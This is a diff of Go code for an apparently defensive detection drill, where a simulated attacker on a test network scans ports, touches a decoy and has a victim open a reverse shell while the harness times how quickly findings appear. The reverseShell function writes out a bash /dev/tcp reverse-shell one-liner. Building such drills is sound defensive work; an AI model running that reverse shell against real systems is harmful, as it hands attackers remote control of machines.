@@ -48,7 +48,6 @@ type drill struct {
 
 	attacker *testnet.Host
 	members  []*testnet.Host
-	skew     int64 // wall clock less CLOCK_BOOTTIME, nanoseconds
 	ring     []Attempt
 }
 
@@ -57,7 +56,6 @@ func (d *drill) run(ctx context.Context) (err error) {
 	if d.attacker, err = d.state.Host(testnet.Outsider); err != nil {
 		return err
 	}
-	d.skew = time.Now().UnixNano() - int64(bootTime())
 	if d.watch, err = follow(ctx, d.members[0]); err != nil {
 		return err
 	}
@@ -223,6 +221,7 @@ func (d *drill) scan(ctx context.Context) error {
 		}
 	}
 	d.progress("x1 sweeps its neighbours")
+	mark := d.watch.mark()
 	var sweep, full Scan
 	if err := d.tool(ctx, d.attacker, &sweep, "scan", append([]string{sweepPorts}, neighbours...)...); err != nil {
 		return err
@@ -231,9 +230,8 @@ func (d *drill) scan(ctx context.Context) error {
 	if err := d.tool(ctx, d.attacker, &full, "scan", scanPorts, target.Addr.String()); err != nil {
 		return err
 	}
-	return d.seen(ctx, Step{Technique: techniqueScan, Host: target.Name,
-		Name: fmt.Sprintf("x1 sweeps its neighbours, then scans %d ports of %s", full.Ports, target.Name)}, full.Boot,
-		func(f *apiv1.Finding) bool { return d.aboutAttacker(f) })
+	return d.detect(ctx, Step{Technique: techniqueScan, Host: target.Name,
+		Name: fmt.Sprintf("x1 sweeps its neighbours, then scans %d ports of %s", full.Ports, target.Name)}, mark, full.Boot, d.aboutAttacker)
 }
 
 func (d *drill) aboutAttacker(f *apiv1.Finding) bool {
@@ -241,31 +239,28 @@ func (d *drill) aboutAttacker(f *apiv1.Finding) bool {
 	return err == nil && a.Unmap() == d.attacker.Addr
 }
 
-// seen waits for the finding a step should give, and adds the step to the result.
-func (d *drill) seen(ctx context.Context, s Step, boot uint64, fits func(*apiv1.Finding) bool) error {
-	f, err := d.watch.finding(ctx, detectLimit, func(f *apiv1.Finding) bool {
-		return f.GetHost() == s.Host && d.bootOf(f) >= boot && slices.Contains(f.GetAttack(), s.Technique) && fits(f)
+// detect waits for the finding a step should give, after mark, and adds the step to the result. Its time runs from boot,
+// the step's first packet or system call, until any member's API shows the finding.
+func (d *drill) detect(ctx context.Context, s Step, mark int, boot uint64, fits func(*apiv1.Finding) bool) error {
+	f, err := d.watch.finding(ctx, mark, detectLimit, func(f *apiv1.Finding) bool {
+		return f.GetHost() == s.Host && slices.Contains(f.GetAttack(), s.Technique) && fits(f)
 	})
 	if err != nil {
 		return err
 	}
-	if f != nil {
-		s.Detected, s.Rule, s.DetectMS = true, f.GetRule(), float64(d.bootOf(f)-boot)/1e6
+	if f.Finding != nil {
+		s.Detected, s.Rule, s.DetectMS = true, f.GetRule(), float64(f.at-min(f.at, boot))/1e6
 	}
 	d.result.Steps = append(d.result.Steps, s)
 	d.showStep(s)
 	return nil
 }
 
-// bootOf is when a finding was made, on CLOCK_BOOTTIME: all hosts of a testnet share the machine's clocks.
-func (d *drill) bootOf(f *apiv1.Finding) uint64 {
-	return uint64(max(0, f.GetTime().AsTime().UnixNano()-d.skew))
-}
-
 // touch connects to the decoy on n2, and waits until every kernel refuses the attacker.
 func (d *drill) touch(ctx context.Context) error {
 	decoy := d.members[1]
 	d.progress("x1 touches the decoy on " + decoy.Name)
+	mark := d.watch.mark()
 	var got []Attempt
 	if err := d.tool(ctx, d.attacker, &got, "dial", "2s", netip.AddrPortFrom(decoy.Addr, decoy.Decoy).String()); err != nil {
 		return err
@@ -276,20 +271,10 @@ func (d *drill) touch(ctx context.Context) error {
 	}
 	t0 := got[0].Boot
 	step := Step{Technique: techniqueTouch, Host: decoy.Name, Name: fmt.Sprintf("x1 touches the decoy on %s, tcp/%d", decoy.Name, decoy.Decoy)}
-	f, err := d.watch.finding(ctx, detectLimit, func(f *apiv1.Finding) bool {
-		return f.GetHost() == decoy.Name && f.GetDecoy() != "" && d.bootOf(f) >= t0 && d.aboutAttacker(f)
-	})
+	err := d.detect(ctx, step, mark, t0, func(f *apiv1.Finding) bool { return f.GetDecoy() != "" && d.aboutAttacker(f) })
 	if err != nil {
 		return err
 	}
-	if f != nil {
-		step.Detected, step.Rule, step.DetectMS = true, f.GetRule(), float64(d.bootOf(f)-t0)/1e6
-		if len(f.GetAttack()) > 0 && !slices.Contains(f.GetAttack(), step.Technique) {
-			step.Technique = f.GetAttack()[0]
-		}
-	}
-	d.result.Steps = append(d.result.Steps, step)
-	d.showStep(step)
 	if d.net.Mode() == testnet.ModeProcess {
 		return nil // nothing can be refused
 	}
@@ -330,12 +315,12 @@ func (d *drill) reverseShell(ctx context.Context, t *trap) error {
 	if bash, err := exec.LookPath("bash"); err == nil && d.net.Mode() == testnet.ModeNetns {
 		cmd = exec.CommandContext(ctx2, bash, "-c", fmt.Sprintf("exec bash --norc </dev/tcp/%s/%d >&0 2>&0", to.Addr(), to.Port()))
 	}
-	boot := bootTime()
+	mark, boot := d.watch.mark(), bootTime()
 	if err := d.net.Start(victim, cmd); err != nil {
 		return err
 	}
 	cmd.Wait() // refused: it fails, as it should
-	err := d.seen(ctx, Step{Technique: techniqueShell, Host: victim.Name, Name: fmt.Sprintf("%s opens a reverse shell to x1", victim.Name)}, boot,
+	err := d.detect(ctx, Step{Technique: techniqueShell, Host: victim.Name, Name: fmt.Sprintf("%s opens a reverse shell to x1", victim.Name)}, mark, boot,
 		func(*apiv1.Finding) bool { return true })
 	if err == nil && d.net.Mode() == testnet.ModeNetns && t.shellFrom(victim.Addr) {
 		d.result.Notes = append(d.result.Notes, "a shell of "+victim.Name+" reached the attacker")
